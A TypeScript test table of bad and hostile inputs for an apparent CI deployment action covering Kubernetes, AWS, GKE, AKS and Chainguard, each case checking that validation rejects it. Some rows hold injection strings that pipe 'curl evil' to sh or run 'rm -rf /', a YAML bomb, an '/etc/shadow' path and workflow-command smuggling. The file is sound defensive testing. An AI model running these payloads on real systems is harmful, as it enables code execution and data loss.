// Hostile and bad input, one case a row. The e2e test runs each through the bundled action and
// docs/bad-inputs.md is generated from this table (`npm run docs`), so the two cannot drift.
import { stringify } from 'yaml';

export interface BadInputCase {
  /** What the case is, for people. */
  title: string;
  inputs: Record<string, string>;
  /** The input the single error must name. */
  names: string;
  /** Extra environment, if the case is about one. */
  env?: Record<string, string>;
  /** What the error must say besides the input's name (a meaning, not a sentence). */
  says?: RegExp;
}

const CA = Buffer.from(
  '-----BEGIN CERTIFICATE-----\nMIIBfake\n-----END CERTIFICATE-----\n',
).toString('base64');
const ROLE = 'arn:aws:iam::123456789012:role/deploy';
const IDENTITY = 'a'.repeat(40);
const GOOD_CLUSTER = { server: 'https://k8s.example:6443', 'certificate-authority-data': CA };

function kubeconfig(
  cluster: Record<string, unknown> = GOOD_CLUSTER,
  extra: Record<string, unknown> = {},
): string {
  return stringify({
    apiVersion: 'v1',
    kind: 'Config',
    clusters: [{ name: 'c', cluster }],
    contexts: [{ name: 'ctx', context: { cluster: 'c', user: 'u' } }],
    users: [{ name: 'u', user: {} }],
    'current-context': 'ctx',
    ...extra,
  });
}
const KUBECONFIG = kubeconfig();
/** `insecure-skip-tls-verify: yes` written as kubectl's YAML 1.1 reads it (a boolean true). */
const INSECURE_YES = kubeconfig({ server: 'https://k8s.example:6443' }).replace(
  /^(\s+)server: (.*)$/m,
  '$1server: $2\n$1insecure-skip-tls-verify: yes',
);
const YAML_BOMB = [
  'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
  'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
  'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
  'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
  'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
  'f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
  'g: [*f,*f,*f,*f,*f,*f,*f,*f,*f]',
].join('\n');
const deploy = (extra: Record<string, string>) => ({
  kubeconfig: KUBECONFIG,
  workloads: 'deployment/web',
  images: 'web=nginx:1.27',
  ...extra,
});
const PROVIDER =
  'projects/123456789012/locations/global/workloadIdentityPools/ci-jobs/providers/github';
const gke = (extra: Record<string, string>) => ({
  'gke-cluster': 'demo',
  'gke-location': 'europe-west1',
  'gcp-project': 'my-project',
  'workload-identity-provider': PROVIDER,
  ...extra,
});
const AZURE_SUBSCRIPTION = '5e6f7a8b-9c0d-4e1f-8a2b-3c4d5e6f7a8b';
const AZURE_CLIENT = 'c1a2b3c4-d5e6-4f70-8a9b-0c1d2e3f4a5b';
const AZURE_TENANT = '4d1e2f3a-5b6c-4d7e-8f90-a1b2c3d4e5f6';
const aks = (extra: Record<string, string>) => ({
  'aks-cluster': 'prod',
  'azure-resource-group': 'prod-rg',
  'azure-subscription-id': AZURE_SUBSCRIPTION,
  'azure-client-id': AZURE_CLIENT,
  'azure-tenant-id': AZURE_TENANT,
  ...extra,
});
const aws = (extra: Record<string, string>) => ({
  'role-to-assume': ROLE,
  'aws-region': 'eu-west-1',
  ...extra,
});

export const BAD_INPUTS: BadInputCase[] = [
  // mode and the token
  { title: 'unknown mode', inputs: { mode: 'gcp' }, names: 'mode' },
  { title: 'no input picks a mode', inputs: {}, names: 'mode' },
  // A runner passes every declared input, empty unless given: an undefined variable is empty.
  {
    title: 'kubeconfig from a variable that is not defined (empty)',
    inputs: { kubeconfig: '', audience: 'https://k8s.example' },
    names: 'kubeconfig',
    says: /is empty.*\n.*is the variable defined for this repository\/environment \(a variable, not a secret\)\?/,
  },
  {
    title: 'role-to-assume from a secret that is not defined (empty), with aws-region',
    inputs: { 'role-to-assume': '', 'aws-region': 'eu-west-1' },
    names: 'role-to-assume',
    says: /is empty, and aws mode needs it/,
  },
  {
    title: 'mode kubernetes with every cluster input empty',
    inputs: { mode: 'kubernetes', kubeconfig: '', namespace: 'demo' },
    names: 'kubeconfig',
    says: /are empty, and kubernetes mode needs one of them/,
  },
  { title: 'mode with a newline', inputs: { mode: 'token\nkubernetes' }, names: 'mode' },
  {
    title: 'audience with a newline',
    inputs: { mode: 'token', audience: 'a\nb' },
    names: 'audience',
  },
  {
    title: 'audience with a control character',
    inputs: { mode: 'token', audience: 'a\u0007b' },
    names: 'audience',
  },
  {
    title: 'audience over 512 characters',
    inputs: { mode: 'token', audience: 'x'.repeat(600) },
    names: 'audience',
  },
  {
    title: 'show-claims not a boolean',
    inputs: { mode: 'token', 'show-claims': 'yes' },
    names: 'show-claims',
  },
  {
    title: 'verify-token not a boolean',
    inputs: { mode: 'token', 'verify-token': '1' },
    names: 'verify-token',
  },
  {
    title: 'token mode given a kubernetes input',
    inputs: { mode: 'token', workloads: 'web' },
    names: 'workloads',
  },
  // kubernetes: the kubeconfig
  {
    title: 'kubeconfig of whitespace only',
    inputs: { mode: 'kubernetes', kubeconfig: ' \n\t ' },
    names: 'kubeconfig',
  },
  {
    title: 'kubeconfig of base64 garbage',
    inputs: { kubeconfig: 'bm90IGEga3ViZWNvbmZpZyBhdCBhbGw=' },
    names: 'kubeconfig',
  },
  {
    title: 'kubeconfig that is not YAML',
    inputs: { kubeconfig: 'clusters: [\n  - {name: c' },
    names: 'kubeconfig',
  },
  {
    title: 'kubeconfig that is a list',
    inputs: { kubeconfig: '- a: 1\n- b: 2\n' },
    names: 'kubeconfig',
  },
  {
    title: 'kubeconfig of another kind',
    inputs: { kubeconfig: 'apiVersion: v1\nkind: Secret\ndata: {}\n' },
    names: 'kubeconfig',
  },
  {
    title: 'kubeconfig with a mapping of more than 10,000 keys',
    inputs: {
      kubeconfig: `${KUBECONFIG}preferences:\n${Array.from({ length: 10_001 }, (_, i) => `  k${i}: v`).join('\n')}\n`,
    },
    names: 'kubeconfig',
    says: /more than 10000 keys/,
  },
  {
    title: 'kubeconfig with a duplicate key',
    inputs: { kubeconfig: `${KUBECONFIG}current-context: other\n` },
    names: 'kubeconfig',
    says: /duplicate key/,
  },
  {
    title: 'kubeconfig YAML bomb (billion laughs)',
    inputs: { kubeconfig: YAML_BOMB },
    names: 'kubeconfig',
  },
  {
    // A runner passes inputs in the environment, which caps one value near 128 KiB.
    title: 'kubeconfig nested 40,000 deep (80 KB)',
    inputs: { kubeconfig: `a: ${'['.repeat(40_000)}${']'.repeat(40_000)}` },
    names: 'kubeconfig',
  },
  {
    title: 'kubeconfig whose server is http://',
    inputs: { kubeconfig: kubeconfig({ server: 'http://k8s.example' }) },
    names: 'kubeconfig',
  },
  {
    title: 'kubeconfig whose server is not a URL',
    inputs: { kubeconfig: kubeconfig({ server: 'k8s example' }) },
    names: 'kubeconfig',
  },
  {
    title: 'kubeconfig reading its CA from a local file',
    inputs: {
      kubeconfig: kubeconfig({ server: 'https://k', 'certificate-authority': '/etc/shadow' }),
    },
    names: 'kubeconfig',
  },
  {
    title: 'kubeconfig CA data that is not a certificate',
    inputs: {
      kubeconfig: kubeconfig({ server: 'https://k', 'certificate-authority-data': 'aGVsbG8=' }),
    },
    names: 'kubeconfig',
  },
  {
    title: 'kubeconfig silently skipping TLS verification',
    inputs: { kubeconfig: kubeconfig({ server: 'https://k', 'insecure-skip-tls-verify': true }) },
    names: 'kubeconfig',
  },
  {
    // kubectl reads a kubeconfig as YAML 1.1: a plain `yes` is true (docs/design.md).
    title: 'kubeconfig skipping TLS verification with `yes`',
    inputs: { kubeconfig: kubeconfig({ server: 'https://k', 'insecure-skip-tls-verify': 'yes' }) },
    names: 'kubeconfig',
  },
  {
    title: 'kubeconfig boolean that is a quoted string',
    inputs: {
      kubeconfig: kubeconfig({ ...GOOD_CLUSTER, 'insecure-skip-tls-verify': 'true' }),
    },
    names: 'kubeconfig',
  },
  {
    title: 'kubeconfig context namespace with a line break',
    inputs: {
      kubeconfig: kubeconfig(GOOD_CLUSTER, {
        contexts: [
          {
            name: 'ctx',
            context: { cluster: 'c', user: 'u', namespace: 'web\n::set-output name=x::y' },
          },
        ],
      }),
    },
    names: 'kubeconfig',
  },
  {
    title: 'kubeconfig current-context that does not exist',
    inputs: { kubeconfig: kubeconfig(GOOD_CLUSTER, { 'current-context': 'nope' }) },
    names: 'kubeconfig',
  },
  {
    title: 'kubeconfig with insecure-skip-tls-verify: yes (kubectl reads it as true)',
    inputs: { kubeconfig: INSECURE_YES },
    names: 'kubeconfig',
    says: /insecure-skip-tls-verify/,
  },
  {
    title: 'kubeconfig namespace that is not a DNS label, with a workflow command',
    inputs: {
      kubeconfig: stringify({
        apiVersion: 'v1',
        kind: 'Config',
        clusters: [{ name: 'c', cluster: GOOD_CLUSTER }],
        contexts: [
          {
            name: 'ctx',
            context: { cluster: 'c', user: 'u', namespace: 'Prod_NS\n::set-output name=x::y' },
          },
        ],
        users: [{ name: 'u', user: {} }],
        'current-context': 'ctx',
      }),
    },
    names: 'kubeconfig',
    says: /namespace/,
  },
  {
    title: 'context the kubeconfig does not have',
    inputs: { kubeconfig: KUBECONFIG, context: 'prod' },
    names: 'context',
  },
  {
    title: 'namespace that is not a DNS label',
    inputs: { kubeconfig: KUBECONFIG, namespace: 'Prod_NS' },
    names: 'namespace',
  },
  { title: 'user with a newline', inputs: { kubeconfig: KUBECONFIG, user: 'a\nb' }, names: 'user' },
  {
    title: 'kubeconfig and server together',
    inputs: { kubeconfig: KUBECONFIG, server: 'https://k8s.example' },
    names: 'kubeconfig',
  },
  {
    title: 'server over plain http',
    inputs: { server: 'http://k8s.example:6443' },
    names: 'server',
  },
  {
    title: 'server that is not a URL',
    inputs: { server: 'k8s.example:6443 ; rm -rf /' },
    names: 'server',
  },
  {
    title: 'server with credentials in the URL',
    inputs: { server: 'https://admin:pw@k8s.example' },
    names: 'server',
  },
  {
    title: 'certificate-authority-data not base64 of a PEM',
    inputs: { server: 'https://k8s.example', 'certificate-authority-data': '%%%' },
    names: 'certificate-authority-data',
  },
  {
    title: 'insecure-skip-tls-verify not a boolean',
    inputs: { kubeconfig: KUBECONFIG, 'insecure-skip-tls-verify': 'maybe' },
    names: 'insecure-skip-tls-verify',
  },
  {
    title: 'kubeconfig-credentials unknown',
    inputs: { kubeconfig: KUBECONFIG, 'kubeconfig-credentials': 'dynamic' },
    names: 'kubeconfig-credentials',
  },
  // kubernetes: the deploy
  {
    title: 'workload of an unsupported kind',
    inputs: deploy({ workloads: 'pod/web' }),
    names: 'workloads',
  },
  {
    title: 'workload name that is not DNS-1123',
    inputs: deploy({ workloads: 'deployment/Web_App' }),
    names: 'workloads',
  },
  {
    title: 'workload name with shell metacharacters',
    inputs: deploy({ workloads: 'deployment/web;rm -rf /' }),
    names: 'workloads',
  },
  {
    title: 'workload listed twice',
    inputs: deploy({ workloads: 'web\ndeployment/web' }),
    names: 'workloads',
  },
  {
    title: 'image with shell metacharacters',
    inputs: deploy({ images: 'web=nginx;curl evil.example|sh' }),
    names: 'images',
  },
  {
    title: 'image with command substitution',
    inputs: deploy({ images: 'web=$(id)' }),
    names: 'images',
  },
  { title: 'image with a space', inputs: deploy({ images: 'web=nginx latest' }), names: 'images' },
  {
    title: 'image line without container= (a bare image) and no manifests',
    inputs: deploy({ images: 'nginx:1.27' }),
    names: 'images',
    says: /manifests/,
  },
  {
    title: 'container name that is not DNS-1123',
    inputs: deploy({ images: 'Web=nginx' }),
    names: 'images',
  },
  {
    title: '*=image mixed with named containers',
    inputs: deploy({ images: '*=nginx\nweb=redis' }),
    names: 'images',
  },
  {
    title: 'images without workloads',
    inputs: { kubeconfig: KUBECONFIG, images: 'web=nginx' },
    names: 'images',
  },
  {
    title: 'workloads without images',
    inputs: { kubeconfig: KUBECONFIG, workloads: 'web' },
    names: 'workloads',
  },
  {
    title: 'rollout-timeout in words',
    inputs: deploy({ 'rollout-timeout': '5 minutes' }),
    names: 'rollout-timeout',
  },
  {
    title: 'rollout-timeout negative',
    inputs: deploy({ 'rollout-timeout': '-1s' }),
    names: 'rollout-timeout',
  },
  {
    title: 'rollout-timeout beyond a job',
    inputs: deploy({ 'rollout-timeout': '100h' }),
    names: 'rollout-timeout',
  },
  {
    title: 'rollback-on-failure not a boolean',
    inputs: deploy({ 'rollback-on-failure': 'y' }),
    names: 'rollback-on-failure',
  },
  // kubernetes: manifests (server-side apply)
  {
    title: 'bare image reference without manifests',
    inputs: { kubeconfig: KUBECONFIG, images: 'ghcr.io/org/app@sha256:' + 'c'.repeat(64) },
    names: 'images',
    says: /manifests/,
  },
  {
    title: 'bare image reference with upper case in the path',
    inputs: { kubeconfig: KUBECONFIG, manifests: 'deploy/', images: 'ghcr.io/Org/App:1' },
    names: 'images',
    says: /line 1/,
  },
  {
    title: 'bare image reference with a short digest',
    inputs: { kubeconfig: KUBECONFIG, manifests: 'deploy/', images: 'web=a:1\napp@sha256:abc' },
    names: 'images',
    says: /line 2/,
  },
  {
    title: 'bare image reference with shell syntax',
    inputs: { kubeconfig: KUBECONFIG, manifests: 'deploy/', images: 'app:1;curl evil|sh' },
    names: 'images',
  },
  {
    title: 'same repository twice in bare images',
    inputs: { kubeconfig: KUBECONFIG, manifests: 'deploy/', images: 'app:1\napp:2' },
    names: 'images',
  },
  {
    title: 'manifests with CONTAINER=IMAGE lines and no workloads',
    inputs: { kubeconfig: KUBECONFIG, manifests: 'deploy/', images: 'web=ghcr.io/org/app:2' },
    names: 'images',
  },
  {
    title: 'workloads with only bare images',
    inputs: { kubeconfig: KUBECONFIG, manifests: 'deploy/', workloads: 'web', images: 'app:2' },
    names: 'workloads',
  },
  {
    title: 'manifests line with a control character',
    inputs: { kubeconfig: KUBECONFIG, manifests: 'deploy/\u001b[2Jx.yaml' },
    names: 'manifests',
  },
  {
    title: 'force-conflicts without manifests',
    inputs: deploy({ 'force-conflicts': 'true' }),
    names: 'force-conflicts',
  },
  {
    title: 'dry-run without manifests',
    inputs: deploy({ 'dry-run': 'true' }),
    names: 'dry-run',
  },
  {
    title: 'dry-run not a boolean',
    inputs: { kubeconfig: KUBECONFIG, manifests: 'deploy/', 'dry-run': 'server' },
    names: 'dry-run',
  },
  {
    title: 'force-conflicts not a boolean',
    inputs: { kubeconfig: KUBECONFIG, manifests: 'deploy/', 'force-conflicts': 'yes' },
    names: 'force-conflicts',
  },
  {
    title: 'token mode given manifests',
    inputs: { mode: 'token', manifests: 'deploy/' },
    names: 'manifests',
  },
  {
    title: 'aws mode given dry-run',
    inputs: aws({ 'dry-run': 'true' }),
    names: 'dry-run',
  },
  // aws
  {
    title: 'role-to-assume not an ARN',
    inputs: aws({ 'role-to-assume': 'deploy' }),
    names: 'role-to-assume',
  },
  {
    title: 'role-to-assume a user, not a role',
    inputs: aws({ 'role-to-assume': 'arn:aws:iam::123456789012:user/ci' }),
    names: 'role-to-assume',
  },
  {
    title: 'role-to-assume from another partition than the region',
    inputs: aws({ 'role-to-assume': 'arn:aws-cn:iam::123456789012:role/deploy' }),
    names: 'role-to-assume',
  },
  {
    title: 'verify-access not a boolean',
    inputs: { kubeconfig: KUBECONFIG, 'verify-access': 'sometimes' },
    names: 'verify-access',
  },
  {
    title: 'aws-region missing',
    inputs: { mode: 'aws', 'role-to-assume': ROLE },
    names: 'aws-region',
  },
  {
    title: 'aws-region not a region',
    inputs: aws({ 'aws-region': 'mars-north' }),
    names: 'aws-region',
  },
  {
    title: 'role-duration-seconds too short',
    inputs: aws({ 'role-duration-seconds': '60' }),
    names: 'role-duration-seconds',
  },
  {
    title: 'role-duration-seconds not a number',
    inputs: aws({ 'role-duration-seconds': '1h' }),
    names: 'role-duration-seconds',
  },
  {
    title: 'role-session-name with a space',
    inputs: aws({ 'role-session-name': 'my session' }),
    names: 'role-session-name',
  },
  {
    title: 'role-session-name over 64 characters',
    inputs: aws({ 'role-session-name': 's'.repeat(65) }),
    names: 'role-session-name',
  },
  {
    title: 'sts-endpoint over plain http to a remote host',
    inputs: aws({ 'sts-endpoint': 'http://sts.example.com' }),
    names: 'sts-endpoint',
  },
  {
    title: 'sts-endpoint over plain http to a name beginning with 127. (not loopback)',
    inputs: aws({ 'sts-endpoint': 'http://127.attacker.example' }),
    names: 'sts-endpoint',
    says: /https|loopback/,
  },
  {
    title: 'AWS_ENDPOINT_URL_STS over plain http to a name beginning with 127. (not loopback)',
    inputs: aws({}),
    env: { AWS_ENDPOINT_URL_STS: 'http://127.attacker.example' },
    names: 'AWS_ENDPOINT_URL_STS',
    says: /https|loopback/,
  },
  {
    title: 'AWS_ENDPOINT_URL_STS not a URL',
    inputs: aws({}),
    env: { AWS_ENDPOINT_URL_STS: 'sts endpoint' },
    names: 'AWS_ENDPOINT_URL_STS',
  },
  {
    title: 'output-credentials not a boolean',
    inputs: aws({ 'output-credentials': 'please' }),
    names: 'output-credentials',
  },
  {
    title: 'inline-session-policy not JSON',
    inputs: aws({ 'inline-session-policy': "{ Statement: [{ Effect: 'Allow' }] }" }),
    names: 'inline-session-policy',
  },
  {
    title: 'inline-session-policy without a Statement',
    inputs: aws({ 'inline-session-policy': '{"Version": "2012-10-17"}' }),
    names: 'inline-session-policy',
  },
  {
    title: 'managed-session-policies separated by commas',
    inputs: aws({
      'managed-session-policies':
        'arn:aws:iam::aws:policy/ReadOnlyAccess,arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess',
    }),
    names: 'managed-session-policies',
    says: /lines/,
  },
  {
    title: 'managed-session-policies from another partition than the role',
    inputs: aws({ 'managed-session-policies': 'arn:aws-cn:iam::aws:policy/ReadOnlyAccess' }),
    names: 'managed-session-policies',
  },
  {
    title: 'aws-profile with a space',
    inputs: aws({ 'aws-profile': 'my profile' }),
    names: 'aws-profile',
  },
  {
    title: 'overwrite-aws-profile without aws-profile',
    inputs: aws({ 'overwrite-aws-profile': 'true' }),
    names: 'overwrite-aws-profile',
  },
  {
    title: 'allowed-account-ids not 12 digits',
    inputs: aws({ 'allowed-account-ids': '123456789012, 12345' }),
    names: 'allowed-account-ids',
  },
  {
    title: 'ecr-login neither true, an account id nor a registry',
    inputs: aws({ 'ecr-login': 'docker.io' }),
    names: 'ecr-login',
  },
  {
    title: 'AWS_ENDPOINT_URL_ECR over plain http to a remote host',
    inputs: aws({ 'ecr-login': 'true' }),
    env: { AWS_ENDPOINT_URL_ECR: 'http://ecr.example.com' },
    names: 'AWS_ENDPOINT_URL_ECR',
    says: /https/,
  },
  {
    title: 'AWS_ENDPOINT_URL (every service) over plain http to a remote host',
    inputs: aws({}),
    env: { AWS_ENDPOINT_URL: 'http://aws.example.com' },
    names: 'AWS_ENDPOINT_URL',
    says: /https/,
  },
  {
    title: 'role-external-id without role-chaining',
    inputs: aws({ 'role-external-id': 'partner-1234' }),
    names: 'role-external-id',
    says: /role-chaining/,
  },
  {
    title: 'role-chaining with audience (no ID token is requested)',
    inputs: aws({ 'role-chaining': 'true', audience: 'sts.amazonaws.com' }),
    names: 'audience',
    says: /role-chaining/,
  },
  {
    title: 'role-chaining without credentials in the environment',
    inputs: aws({ 'role-chaining': 'true' }),
    names: 'role-chaining',
    says: /AWS_ACCESS_KEY_ID/,
  },
  {
    title: 'role-chaining not a boolean',
    inputs: aws({ 'role-chaining': 'yes please' }),
    names: 'role-chaining',
  },
  {
    title: 'ecr-login in kubernetes mode',
    inputs: { kubeconfig: KUBECONFIG, 'ecr-login': 'true' },
    names: 'ecr-login',
  },
  {
    title: 'aws and chainguard inputs together',
    inputs: aws({ 'chainguard-identity': IDENTITY }),
    names: 'chainguard-identity',
  },
  // eks
  {
    title: 'eks-cluster without role-to-assume',
    inputs: { 'eks-cluster': 'demo', 'aws-region': 'eu-west-1' },
    names: 'role-to-assume',
    says: /eks-cluster/,
  },
  {
    title: 'eks-cluster without aws-region',
    inputs: { 'eks-cluster': 'demo', 'role-to-assume': ROLE },
    names: 'aws-region',
    says: /eks-cluster/,
  },
  {
    title: 'eks-cluster with kubeconfig',
    inputs: aws({ 'eks-cluster': 'demo', kubeconfig: KUBECONFIG }),
    names: 'kubeconfig',
    says: /eks-cluster/,
  },
  {
    title: 'eks-cluster with server',
    inputs: aws({ 'eks-cluster': 'demo', server: 'https://k8s.example:6443' }),
    names: 'server',
    says: /eks-cluster/,
  },
  {
    title: 'eks-cluster not a cluster name',
    inputs: aws({ 'eks-cluster': 'my cluster\n::warning::x' }),
    names: 'eks-cluster',
  },
  {
    title: 'eks-endpoint over plain http to a remote host',
    inputs: aws({ 'eks-cluster': 'demo', 'eks-endpoint': 'http://eks.example.com' }),
    names: 'eks-endpoint',
    says: /https/,
  },
  {
    title: 'AWS_ENDPOINT_URL_EKS over plain http to a name beginning with 127. (not loopback)',
    inputs: aws({ 'eks-cluster': 'demo' }),
    names: 'AWS_ENDPOINT_URL_EKS',
    env: { AWS_ENDPOINT_URL_EKS: 'http://127.attacker.example' },
    says: /https/,
  },
  {
    title: 'eks-endpoint without eks-cluster',
    inputs: aws({ 'eks-endpoint': 'https://eks.example.com' }),
    names: 'eks-endpoint',
  },
  {
    title: 'eks-export-aws-credentials not a boolean',
    inputs: aws({ 'eks-cluster': 'demo', 'eks-export-aws-credentials': 'maybe' }),
    names: 'eks-export-aws-credentials',
  },
  // gke
  {
    title: 'gke-cluster without gke-location',
    inputs: gke({ 'gke-location': '' }),
    names: 'gke-location',
    says: /gke-cluster/,
  },
  {
    title: 'gke-cluster without gcp-project',
    inputs: gke({ 'gcp-project': '' }),
    names: 'gcp-project',
    says: /gke-cluster/,
  },
  {
    title: 'gke-cluster without workload-identity-provider',
    inputs: gke({ 'workload-identity-provider': '' }),
    names: 'workload-identity-provider',
    says: /gke-cluster/,
  },
  {
    title: 'gke-cluster not a cluster name',
    inputs: gke({ 'gke-cluster': 'My_Cluster' }),
    names: 'gke-cluster',
  },
  {
    title: 'gke-cluster with a line break and a workflow command',
    inputs: gke({ 'gke-cluster': 'demo\n::warning::x' }),
    names: 'gke-cluster',
  },
  {
    title: 'gke-cluster as a resource name in another location than gke-location',
    inputs: gke({ 'gke-cluster': 'projects/my-project/locations/us-east1/clusters/demo' }),
    names: 'gke-location',
  },
  {
    title: 'gke-location not a region or zone',
    inputs: gke({ 'gke-location': 'Europe West' }),
    names: 'gke-location',
  },
  {
    title: 'gcp-project not a project ID',
    inputs: gke({ 'gcp-project': 'My Project' }),
    names: 'gcp-project',
  },
  {
    title: 'workload-identity-provider with the project ID instead of its number',
    inputs: gke({ 'workload-identity-provider': PROVIDER.replace('123456789012', 'my-project') }),
    names: 'workload-identity-provider',
    says: /number/,
  },
  {
    title: 'workload-identity-provider as the STS audience URL',
    inputs: gke({ 'workload-identity-provider': `//iam.googleapis.com/${PROVIDER}` }),
    names: 'workload-identity-provider',
  },
  {
    title: 'workload-identity-provider naming a pool only',
    inputs: gke({
      'workload-identity-provider':
        'projects/123456789012/locations/global/workloadIdentityPools/ci-jobs',
    }),
    names: 'workload-identity-provider',
  },
  {
    title: 'service-account not a service account e-mail',
    inputs: gke({ 'service-account': 'alice@example.com' }),
    names: 'service-account',
  },
  {
    title: "service-account as the account's numeric unique ID",
    inputs: gke({ 'service-account': '112233445566778899001' }),
    names: 'service-account',
  },
  {
    title: 'gke-endpoint not public, private or dns',
    inputs: gke({ 'gke-endpoint': 'internal' }),
    names: 'gke-endpoint',
  },
  {
    title: 'gke-cluster with kubeconfig',
    inputs: gke({ kubeconfig: KUBECONFIG }),
    names: 'kubeconfig',
    says: /gke-cluster/,
  },
  {
    title: 'gke-cluster with eks-cluster',
    inputs: gke({ 'eks-cluster': 'demo', 'role-to-assume': ROLE, 'aws-region': 'eu-west-1' }),
    names: 'gke-cluster',
  },
  {
    title: 'service-account without gke-cluster',
    inputs: { kubeconfig: KUBECONFIG, 'service-account': 'deploy@p.iam.gserviceaccount.com' },
    names: 'service-account',
  },
  {
    title: 'CLOUDSDK_API_ENDPOINT_OVERRIDES_STS over plain http to a remote host',
    inputs: gke({}),
    names: 'CLOUDSDK_API_ENDPOINT_OVERRIDES_STS',
    env: { CLOUDSDK_API_ENDPOINT_OVERRIDES_STS: 'http://sts.example.com/' },
    says: /https/,
  },
  {
    title: 'CLOUDSDK_API_ENDPOINT_OVERRIDES_CONTAINER with credentials in the URL',
    inputs: gke({}),
    names: 'CLOUDSDK_API_ENDPOINT_OVERRIDES_CONTAINER',
    env: { CLOUDSDK_API_ENDPOINT_OVERRIDES_CONTAINER: 'https://user:pw@container.example/' },
  },
  // aks
  {
    title: 'aks-cluster without azure-client-id',
    inputs: aks({ 'azure-client-id': '' }),
    names: 'azure-client-id',
    says: /aks-cluster/,
  },
  {
    title: 'aks-cluster without azure-tenant-id',
    inputs: aks({ 'azure-tenant-id': '' }),
    names: 'azure-tenant-id',
    says: /aks-cluster/,
  },
  {
    title: 'aks-cluster without azure-resource-group',
    inputs: aks({ 'azure-resource-group': '' }),
    names: 'azure-resource-group',
    says: /aks-cluster/,
  },
  {
    title: 'aks-cluster not a cluster name',
    inputs: aks({ 'aks-cluster': 'my cluster\n::warning::x' }),
    names: 'aks-cluster',
  },
  {
    title: 'azure-subscription-id a name, not an id',
    inputs: aks({ 'azure-subscription-id': 'Production' }),
    names: 'azure-subscription-id',
    says: /GUID/,
  },
  {
    title: 'azure-resource-group with a slash',
    inputs: aks({ 'azure-resource-group': 'rg/../other' }),
    names: 'azure-resource-group',
  },
  {
    title: 'azure-environment not a cloud the action knows',
    inputs: aks({ 'azure-environment': 'AzureGermanCloud' }),
    names: 'azure-environment',
    says: /AzureUSGovernment/,
  },
  {
    title: 'azure-authority-host over plain http, even on loopback (MSAL refuses it)',
    inputs: aks({ 'azure-authority-host': 'http://127.0.0.1:8443' }),
    names: 'azure-authority-host',
    says: /https/,
  },
  {
    title: 'AZURE_AUTHORITY_HOST with a path',
    inputs: aks({}),
    names: 'AZURE_AUTHORITY_HOST',
    env: { AZURE_AUTHORITY_HOST: 'https://login.example.com/tenant' },
    says: /without a path/,
  },
  {
    title:
      'azure-resource-manager-endpoint over plain http to a name beginning with 127. (not loopback)',
    inputs: aks({ 'azure-resource-manager-endpoint': 'http://127.attacker.example' }),
    names: 'azure-resource-manager-endpoint',
    says: /https/,
  },
  {
    title: 'aks-cluster with kubeconfig',
    inputs: aks({ kubeconfig: KUBECONFIG }),
    names: 'kubeconfig',
    says: /aks-cluster/,
  },
  {
    title: 'azure-client-id without aks-cluster',
    inputs: { ...GOOD_CLUSTER, 'azure-client-id': AZURE_CLIENT },
    names: 'azure-client-id',
  },
  {
    title: 'azure-tenant-id in aws mode',
    inputs: aws({ 'azure-tenant-id': AZURE_TENANT }),
    names: 'azure-tenant-id',
    says: /aws mode/,
  },
  // chainguard
  {
    title: 'chainguard-identity not an identity id',
    inputs: { 'chainguard-identity': 'my-identity' },
    names: 'chainguard-identity',
  },
  {
    title: 'chainguard-issuer over plain http',
    inputs: { 'chainguard-identity': IDENTITY, 'chainguard-issuer': 'http://issuer.example' },
    names: 'chainguard-issuer',
  },
  {
    title: 'chainguard-issuer over plain http to a name beginning with 127. (not loopback)',
    inputs: { 'chainguard-identity': IDENTITY, 'chainguard-issuer': 'http://127.attacker.example' },
    names: 'chainguard-issuer',
    says: /https|loopback/,
  },
  {
    title: 'chainguard-audience with a space',
    inputs: { 'chainguard-identity': IDENTITY, 'chainguard-audience': 'cgr.dev x' },
    names: 'chainguard-audience',
  },
  {
    title: 'registry-login not a boolean',
    inputs: { 'chainguard-identity': IDENTITY, 'registry-login': 'sure' },
    names: 'registry-login',
  },
];
